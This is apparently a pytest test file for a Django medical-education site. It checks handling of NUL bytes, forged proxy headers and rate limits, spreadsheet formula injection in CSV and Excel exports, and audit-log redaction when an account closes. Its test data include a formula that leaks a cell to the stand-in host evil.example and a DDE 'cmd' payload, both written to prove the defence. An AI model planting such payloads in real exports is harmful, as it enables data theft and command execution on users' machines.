"""What arrives at the edge of the site: bytes no page should see, addresses behind the
proxy, files bound for spreadsheets, and what closing an account leaves in the audit log."""

import csv
import datetime
import io
import logging

import openpyxl
import pytest
from auditlog.models import LogEntry
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db.models import Q
from django.test import Client, override_settings
from django.urls import reverse

from accounts.models import BoardIdentifier, User
from accounts.personal_data import close_account
from accounts.profiles import update_profile
from certificates.exports import PARS_REFUSAL
from certificates.issuance import issue_certificate
from certificates.models import ExportKind, ExportStatus
from certificates.tasks import run_export
from core.audit import recorded_as
from core.spreadsheets import BOM
from courses.models import Module
from tests.certificates.conftest import claim, evaluate, pass_post_test
from tests.certificates.test_reports import complete, learner_with, make_job, new_module
from tests.factories import ModuleFactory, UserFactory, post_test_with_questions

pytestmark = pytest.mark.django_db

BAD_REQUEST_HEADING = "We could not read that request"


@pytest.fixture
def server_errors(caplog):
    """The errors Django logs for requests (a 500 logs one on "django.request")."""
    caplog.set_level(logging.ERROR, logger="django.request")
    return lambda: [r for r in caplog.records if r.name == "django.request"]


def assert_bad_request(response, server_errors):
    assert response.status_code == 400
    assert BAD_REQUEST_HEADING in response.content.decode()
    assert server_errors() == []


class TestNulBytes:
    def test_a_nul_in_the_catalog_search_is_a_bad_request(self, client, server_errors):
        assert_bad_request(client.get("/?q=%00"), server_errors)

    def test_a_nul_in_a_verification_code_is_a_bad_request(self, client, server_errors):
        assert_bad_request(client.get("/verify/a%00b/"), server_errors)

    def test_a_nul_in_the_learner_search_is_a_bad_request(
        self, client, cme_administrator, server_errors
    ):
        client.force_login(cme_administrator)

        response = client.get("/accounts/learners/?q=%00")

        assert_bad_request(response, server_errors)

    def test_a_nul_in_a_posted_form_field_changes_nothing(self, client, learner, server_errors):
        client.force_login(learner)

        response = client.post(
            reverse("accounts:profile"),
            {"certificate_name": "Maria\x00 Gómez", "designation": "MD"},
        )

        assert_bad_request(response, server_errors)
        learner.profile.refresh_from_db()
        assert "\x00" not in learner.profile.certificate_name

    def test_a_nul_in_a_field_of_a_file_upload_is_a_bad_request(
        self, client, course_author, server_errors
    ):
        """Multipart forms too (Django already drops control characters from file names)."""
        module = ModuleFactory()
        client.force_login(course_author)
        upload = SimpleUploadedFile("questions.gift", b"::Q1:: 1 + 1? {=2 ~3}")

        response = client.post(
            reverse("quizzes:gift_import", args=[module.slug]),
            {"file": upload, "default_objective": "1\x00"},
        )

        assert_bad_request(response, server_errors)

    def test_a_nul_in_a_header_is_a_bad_request(self, client, server_errors):
        response = client.get("/", HTTP_USER_AGENT="Mozilla\x00")

        assert_bad_request(response, server_errors)

    def test_line_breaks_and_tabs_in_a_field_are_ordinary_text(self, client):
        response = client.get("/", {"q": "atopic\tdermatitis\r\n"})

        assert response.status_code == 200

    def test_a_cookie_holding_a_nul_is_treated_as_absent(self, server_errors):
        client = Client()
        client.cookies["sessionid"] = "\x00abcdefghijklmnop"

        response = client.get("/")

        assert response.status_code == 200
        assert server_errors() == []

    def test_the_bad_request_page_carries_the_security_headers(self, client):
        response = client.get("/?q=%00")

        assert "frame-ancestors 'none'" in response["Content-Security-Policy"]


PROXY = "127.0.0.1"  # where gunicorn sees every request come from, behind the TLS proxy


def log_in_through_proxy(email, password, *, client_address, forged=""):
    """A log-in as the proxy forwards it: X-Forwarded-For holds whatever the client sent
    (`forged`) followed by the address the proxy saw."""
    forwarded = f"{forged}, {client_address}" if forged else client_address
    return Client().post(
        reverse("account_login"),
        {"login": email, "password": password},
        REMOTE_ADDR=PROXY,
        HTTP_X_FORWARDED_FOR=forwarded,
    )


class TestBehindTheProxy:
    @override_settings(CME_TRUSTED_PROXY_COUNT=1)
    def test_failures_from_one_client_lock_only_that_clients_pair(self, learner):
        statuses = [
            log_in_through_proxy(
                learner.email, "wrong-guess", client_address="203.0.113.66"
            ).status_code
            for _ in range(5)
        ]

        owner = log_in_through_proxy(
            learner.email, "correct-horse-battery", client_address="198.51.100.7"
        )

        assert statuses[-1] == 429
        assert owner.status_code == 302

    @override_settings(CME_TRUSTED_PROXY_COUNT=1)
    def test_a_forged_header_does_not_move_the_lock_to_another_client(self, learner):
        """The attacker writes the owner's address into X-Forwarded-For; the proxy appends
        the attacker's real one, which is what counts."""
        for _ in range(5):
            log_in_through_proxy(
                learner.email, "wrong-guess", client_address="203.0.113.66", forged="198.51.100.7"
            )

        owner = log_in_through_proxy(
            learner.email, "correct-horse-battery", client_address="198.51.100.7"
        )

        assert owner.status_code == 302

    @override_settings(CME_TRUSTED_PROXY_COUNT=0, CME_TRUSTED_PROXIES=[])
    def test_with_the_proxy_setting_off_the_header_is_ignored(self, learner):
        """Off (the default), a client cannot pick its address by sending the header: five
        failures lock the peer's address whatever X-Forwarded-For says."""
        for n in range(5):
            log_in_through_proxy(learner.email, "wrong-guess", client_address=f"203.0.113.{n}")

        again = log_in_through_proxy(
            learner.email, "correct-horse-battery", client_address="198.51.100.7"
        )

        assert again.status_code == 429

    @override_settings(CME_TRUSTED_PROXY_COUNT=1)
    def test_rate_limits_count_each_client_not_the_proxy(self):
        """Certificate verification allows 30 a minute per client: one busy client behind
        the proxy does not use up everyone's allowance."""
        busy = [
            Client()
            .get("/verify/NOSUCHCODE/", REMOTE_ADDR=PROXY, HTTP_X_FORWARDED_FOR="203.0.113.66")
            .status_code
            for _ in range(31)
        ]

        other = Client().get(
            "/verify/NOSUCHCODE/", REMOTE_ADDR=PROXY, HTTP_X_FORWARDED_FOR="198.51.100.7"
        )

        assert busy[-1] == 429
        assert other.status_code != 429

    @override_settings(CME_TRUSTED_PROXY_COUNT=1)
    def test_sign_up_limits_count_each_client_not_the_proxy(self):
        """django-allauth's limit (10 sign-ups an hour per client) asks the same function."""

        def sign_up(n, client_address):
            return Client().post(
                reverse("account_signup"),
                {"email": f"bot{n}@example.com", "first_name": "B", "last_name": "Ot",
                 "password1": "a-long-unusual-passphrase", "password2": "x"},
                REMOTE_ADDR=PROXY,
                HTTP_X_FORWARDED_FOR=client_address,
            ).status_code  # fmt: skip

        busy = [sign_up(n, "203.0.113.66") for n in range(11)]

        assert busy[-1] == 429
        assert sign_up(99, "198.51.100.7") == 200

    @override_settings(CME_TRUSTED_PROXY_COUNT=1)
    def test_the_audit_log_records_the_client_not_a_forged_address(self, client, learner):
        client.force_login(learner)

        client.post(
            reverse("accounts:profile"),
            {
                "first_name": "Maria",
                "last_name": "Gómez",
                "certificate_name": "Maria Gómez",
                "designation": "MD",
                "time_zone": "UTC",
            },
            REMOTE_ADDR=PROXY,
            HTTP_X_FORWARDED_FOR="not-an-address, 203.0.113.66",
        )

        entry = LogEntry.objects.get_for_object(learner.profile).latest("timestamp")
        assert entry.remote_addr == "203.0.113.66"


class TestTheLockOutPage:
    def test_it_says_how_long_and_offers_the_password_reset(self, learner):
        for _ in range(5):
            response = log_in_through_proxy(
                learner.email, "wrong-guess", client_address="203.0.113.66"
            )

        page = response.content.decode()
        assert "paused for 15 minutes after the last failed attempt" in page
        assert f'href="{reverse("account_reset_password")}"' in page


class TestSpreadsheetFiles:
    def test_an_author_written_title_in_the_transcript_csv_is_not_a_formula(self, client):
        learner = UserFactory()
        post_test = post_test_with_questions(5)
        Module.objects.filter(pk=post_test.module.pk).update(
            title='=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
        )
        post_test.module.refresh_from_db()
        pass_post_test(learner, post_test)
        evaluate(learner, post_test.module)
        issue_certificate(claim(learner, post_test.module).certificates.get().pk)
        client.force_login(learner)

        response = client.get(reverse("certificates:transcript"), {"format": "csv"})

        text = response.content.decode()
        rows = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
        assert rows[1][1] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
        assert rows[1][3] == "0.25"

    def test_human_facing_csv_files_start_with_a_byte_order_mark(self, client, learner):
        client.force_login(learner)

        response = client.get(reverse("certificates:transcript"), {"format": "csv"})

        body = response.content
        assert body.startswith(BOM.encode())
        assert body.decode().removeprefix(BOM).startswith("Completed on,Activity,")
        assert response["Content-Type"] == "text/csv; charset=utf-8"

    def test_names_in_the_excel_export_are_text_and_never_spoil_the_file(self, cme_administrator):
        """A name that starts like a formula stays text; a control character pasted into a
        name before such input was refused (XLSX cannot hold it) no longer fails the export."""
        formula, pasted = learner_with("MD"), learner_with("MD")
        User.objects.filter(pk=formula.pk).update(last_name="@SUM(1+1)*cmd|' /C calc'!A0")
        User.objects.filter(pk=pasted.pk).update(last_name="O'Brien\x0b")
        complete(formula, new_module(), on=datetime.date(2025, 3, 1), amount="0.75")
        complete(pasted, new_module(), on=datetime.date(2025, 3, 2))
        job = make_job(cme_administrator, ExportKind.COMPLETIONS_XLSX)

        run_export.run(job.pk)

        job.refresh_from_db()
        assert (job.status, job.error) == (ExportStatus.DONE, "")
        with job.file.open("rb") as file:
            sheet = openpyxl.load_workbook(io.BytesIO(file.read())).active
        first, second = ([cell.value for cell in row] for row in sheet.iter_rows(min_row=2))
        assert first[1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert first[0] == datetime.datetime(2025, 3, 1)  # dates stay dates
        assert first[9] == 0.75  # numbers stay numbers
        assert second[1] == "O'Brien\ufffd"

    def test_the_pars_file_refuses_a_record_that_starts_like_a_formula(self, cme_administrator):
        consenting = {"reports_to_boards": True, "npi": "1234567893"}
        honest = learner_with("MD", birth_month=4, birth_day=2, **consenting)
        forged = learner_with("MD", birth_month=5, birth_day=3, **consenting)
        User.objects.filter(pk=forged.pk).update(first_name='=HYPERLINK("https://x")')
        module = new_module()
        for learner in (honest, forged):
            complete(learner, module, on=datetime.date(2025, 3, 1))
        job = make_job(cme_administrator, ExportKind.PARS)

        run_export.run(job.pk)

        job.refresh_from_db()
        with job.file.open("rb") as file:
            lines = file.read().decode().split("\r\n")
        assert job.status == ExportStatus.DONE
        assert [line.split("\t")[3] for line in lines[1:-1]] == ["Maria"]
        assert job.skipped == [
            {
                "learner": f'=HYPERLINK("https://x") {forged.last_name}',
                "board": "",
                "activity": module.pars_activity_id,
                "completed_on": "03/01/2025",
                "fields": ["First Name"],
                "reason": PARS_REFUSAL,
            }
        ]

    def test_a_board_id_is_letters_and_digits(self, learner):
        with pytest.raises(ValidationError) as refusal:
            BoardIdentifier(profile=learner.profile, board="ABIM", identifier="+123").full_clean()

        assert refusal.value.messages == [
            "A board ID has letters and digits only (no spaces, dashes or other signs)."
        ]

    def test_the_profile_form_refuses_a_board_id_that_is_not_letters_and_digits(
        self, client, learner
    ):
        client.force_login(learner)

        response = client.post(
            reverse("accounts:profile"),
            {"certificate_name": "Maria Gómez", "designation": "MD", "time_zone": "UTC",
             "board_abim": "=1+1"},
        )  # fmt: skip

        assert response.status_code == 200
        assert (
            "A board ID has letters and digits only (no spaces, dashes or other signs)."
            in response.content.decode()
        )
        assert not BoardIdentifier.objects.filter(profile=learner.profile).exists()


class TestClosingAnAccount:
    def test_closure_redacts_the_npi_and_e_mail_from_the_audit_log(self, learner):
        npi, email = "1234567893", learner.email
        with recorded_as(learner, reason="The learner edited their profile"):
            update_profile(learner.profile, changes={"npi": npi}, board_ids={})
        post_test = post_test_with_questions(5)
        pass_post_test(learner, post_test)
        evaluate(learner, post_test.module)
        claim(learner, post_test.module)
        before = trail()
        assert mentions(npi) and mentions(email)  # the audit log held them

        close_account(learner, password="correct-horse-battery")

        assert not mentions(npi)
        assert not mentions(email)
        assert before <= trail()  # every entry kept: actor, action, time, changed fields


def mentions(text: str) -> bool:
    fields = (
        "object_repr", "changes_text", "actor_email",
        "changes", "additional_data", "serialized_data",
    )  # fmt: skip
    query = Q()
    for field in fields:
        query |= Q(**{f"{field}__icontains": text})
    return LogEntry.objects.filter(query).exists()


def trail() -> set[tuple]:
    """Who did what and when: each entry's actor, action, time, object and changed fields."""
    return {
        (e.pk, e.actor_id, e.action, e.timestamp, e.content_type_id, e.object_pk,
         tuple(sorted(e.changes or {})))
        for e in LogEntry.objects.all()
    }  # fmt: skip
